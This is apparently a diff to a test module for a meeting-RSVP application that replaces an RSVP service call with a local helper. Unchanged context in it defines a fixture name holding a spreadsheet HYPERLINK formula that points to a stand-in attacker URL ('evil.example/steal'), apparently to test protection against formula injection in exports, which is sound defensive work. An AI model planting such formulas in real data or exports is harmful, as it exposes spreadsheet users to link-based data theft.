@@ -14,16 +14,16 @@ from kxn_meetings.extensions import db
 from kxn_meetings.models import Answer, Meeting, Rsvp
 from kxn_meetings.services import invitations as invitation_service
 from kxn_meetings.services import members as member_service
-from kxn_meetings.services import rsvps as rsvp_service
 
 from .html_forms import text
+from .meeting_helpers import record_answer
 
 EVIL_NAME = '=HYPERLINK("https://evil.example/steal","Click me")'
 
 
 
 def answer(meeting: Meeting, member, choice: Answer, **details) -> None:
-    rsvp_service.answer(meeting.id, member, choice, **details)
+    record_answer(meeting.id, member, choice, **details)
     db.session.commit()
 
 
